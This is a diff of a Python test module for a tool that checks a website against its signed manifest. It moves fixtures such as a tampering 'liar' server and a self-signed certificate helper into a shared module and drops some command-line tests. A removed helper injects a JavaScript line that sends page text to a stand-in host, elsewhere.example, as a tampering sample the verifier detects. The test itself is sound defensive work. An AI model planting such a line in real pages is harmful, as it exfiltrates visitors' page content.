@@ -6,94 +6,37 @@ import json
 import secrets
 import ssl
 import threading
-from collections.abc import Iterator
 from dataclasses import replace
-from datetime import UTC, datetime, timedelta
-from ipaddress import IPv4Address
+from datetime import timedelta
 from itertools import count
 from pathlib import Path
 
-import pytest
-from click.testing import CliRunner
-from cryptography import x509
-from cryptography.hazmat.primitives.asymmetric import ec
-from cryptography.hazmat.primitives.hashes import SHA256
-from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
-from cryptography.x509.oid import NameOID
 from flask import Flask
 from werkzeug.wrappers import Request, Response
 
 from keys.calendar import today
 from keys.errors import KeysError
 from submit.app import create_app
-from submit.cli import main
-from submit.verify import state
 from submit.verify.check import Check, Report
 from submit.verify.fetch import Fetcher, Route
 from submit.verify.findings import Verdict
-from tests.submit.liar import Alter, Liar
+from tests.submit.liar import Liar
+from tests.submit.verifying import (
+    app,
+    certificate,
+    changed,
+    check,
+    found,
+    liar,
+    root,
+    run,
+    serving,
+    site,
+    with_code,
+)
 from tests.submit.world import World
 
-
-@pytest.fixture(scope="module")
-def site(new_world: World, tmp_path_factory: pytest.TempPathFactory) -> World:
-    """A site with its first board; nobody writes to it."""
-    made = new_world.copy(tmp_path_factory.mktemp("verified"))
-    made.publish()
-    return made
-
-
-@pytest.fixture(scope="module")
-def app(site: World) -> Iterator[Flask]:
-    made = create_app(site.server)
-    yield made
-    made.extensions["vault"].close()
-
-
-@pytest.fixture(scope="module")
-def serving(app: Flask) -> Iterator[Liar]:
-    with Liar(app).serving() as started:
-        yield started
-
-
-@pytest.fixture
-def liar(serving: Liar) -> Iterator[Liar]:
-    """The site, honest again after each test."""
-    yield serving
-    serving.alter = lambda request, answer: answer
-
-
-@pytest.fixture
-def root(site: World) -> str:
-    return site.manifest.root.fingerprint.hex()
-
-
-def check(liar: Liar, root: str, seen: state.Seen | None = None) -> Report:
-    fetcher = Fetcher(Route(liar.address))
-    report = Report(address=liar.address, day=today())
-    try:
-        return Check(fetcher, report, fingerprint=bytes.fromhex(root), seen=seen).run()
-    finally:
-        fetcher.close()
-
-
-def found(liar: Liar, root: str, alter: Alter, seen: state.Seen | None = None) -> set[tuple[str, str]]:
-    """Let the site lie so, and return what the check finds bad: (check, subject)."""
-    liar.alter = alter
-    report = check(liar, root, seen)
-    assert report.findings.verdict is Verdict.BAD
-    return {(each.check, each.subject) for each, _ in report.findings if each.verdict is Verdict.BAD}
-
-
-def changed(answer: Response, body: bytes) -> Response:
-    """The same answer with another body, in plain: a careful liar sends the right length."""
-    answer.headers.pop("Content-Encoding", None)
-    answer.set_data(body)
-    return answer
-
-
-def with_code(answer: Response) -> Response:
-    return changed(answer, b"fetch('//elsewhere.example/'+document.body.innerText);")
+__all__ = ["app", "liar", "root", "serving", "site"]
 
 
 # --- an honest site ---------------------------------------------------------
@@ -337,29 +280,6 @@ def test_tampering_21_certificate_of_somebody_between(app: Flask, root: str, tmp
         assert json.loads(said)["certificate"]["version"] == "TLSv1.3"
 
 
-def certificate(folder: Path) -> Path:
-    """A certificate for 127.0.0.1 and its key, signed by itself."""
-    key = ec.generate_private_key(ec.SECP256R1())
-    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")])
-    now = datetime.now(UTC)
-    made = (
-        x509.CertificateBuilder()
-        .subject_name(name)
-        .issuer_name(name)
-        .public_key(key.public_key())
-        .serial_number(x509.random_serial_number())
-        .not_valid_before(now - timedelta(days=1))
-        .not_valid_after(now + timedelta(days=90))
-        .add_extension(
-            x509.SubjectAlternativeName([x509.IPAddress(IPv4Address("127.0.0.1"))]), critical=False
-        )
-        .sign(key, SHA256())
-    )
-    secret = key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
-    (folder / "site.pem").write_bytes(made.public_bytes(Encoding.PEM) + secret)
-    return folder / "site.pem"
-
-
 # --- what is no attack ------------------------------------------------------
 
 
@@ -381,70 +301,6 @@ def test_header_of_a_proxy_is_shown_and_is_no_alarm(liar: Liar, root: str) -> No
     report = check(liar, root)
     assert report.findings.verdict is Verdict.LOOK
     assert all("\x1b" not in finding.detail for finding, _ in report.findings)
-
-
-# --- the command ------------------------------------------------------------
-
-
-def run(*arguments: str) -> tuple[int, str]:
-    result = CliRunner().invoke(main, ["verify", *arguments])
-    return result.exit_code, result.output
-
-
-def test_command_says_so_and_exits_0(liar: Liar, root: str, tmp_path: Path) -> None:
-    spaced = " ".join(root[at : at + 4] for at in range(0, 64, 4))
-    memory, metrics = tmp_path / "seen.json", tmp_path / "amana.prom"
-    code, said = run(liar.address, "--fingerprint", spaced, "--state", str(memory), "--metrics", str(metrics))
-    assert code == 0
-    assert "All is as the root keys signed it." in said
-    assert spaced in said
-    assert state.load(memory) is not None
-    lines = metrics.read_text().splitlines()
-    assert f'amana_verify_ok{{site="{liar.address}"}} 1' in lines
-    assert f'amana_verify_manifest_serial{{site="{liar.address}"}} 1' in lines
-    assert run(liar.address, "--fingerprint", root, "--state", str(memory), "--quiet") == (0, "")
-
-
-def test_command_exits_1_and_prints_what_was_found_as_json(liar: Liar, root: str, tmp_path: Path) -> None:
-    memory = tmp_path / "seen.json"
-
-    def alter(request: Request, answer: Response) -> Response:
-        return with_code(answer) if request.path == "/static/amana.js" else answer
-
-    liar.alter = alter
-    code, said = run(liar.address, "--fingerprint", root, "--json", "--state", str(memory))
-    assert code == 1
-    value = json.loads(said)
-    assert value["verdict"] == "bad"
-    assert [(each["check"], each["subject"]) for each in value["findings"]] == [
-        ("bytes", "/static/amana.js")
-    ] * len(value["findings"])
-    assert sum(each["times"] for each in value["findings"]) == 30
-    assert not memory.exists(), "nothing is learnt from a site that lies"
-
-
-@pytest.mark.parametrize(
-    ("arguments", "sentence"),
-    [
-        (["http://127.0.0.1:9"], "did not answer"),
-        (["report.example.org"], "Give the site's address alone"),
-        (["https://report.example.org/fr/"], "Give the site's address alone"),
-        (["http://127.0.0.1:9", "--fingerprint", "12"], "written in hex, 64 characters"),
-        (["http://127.0.0.1:9", "--fingerprint", "zz"], "written in hex, 64 characters"),
-        (["http://127.0.0.1:9", "--socks", "tor"], "Give the proxy as HOST:PORT"),
-    ],
-)
-def test_command_exits_2_when_it_could_not_check(arguments: list[str], sentence: str) -> None:
-    code, said = run(*arguments)
-    assert code == 2
-    assert sentence in said
-
-
-def test_damaged_state_is_named(liar: Liar, root: str, tmp_path: Path) -> None:
-    (tmp_path / "seen").write_text("{")
-    code, said = run(liar.address, "--fingerprint", root, "--state", str(tmp_path / "seen"))
-    assert code == 2
-    assert "is damaged" in said
 
 
 def test_errors_of_keys_are_findings_and_not_failures(liar: Liar, root: str) -> None:
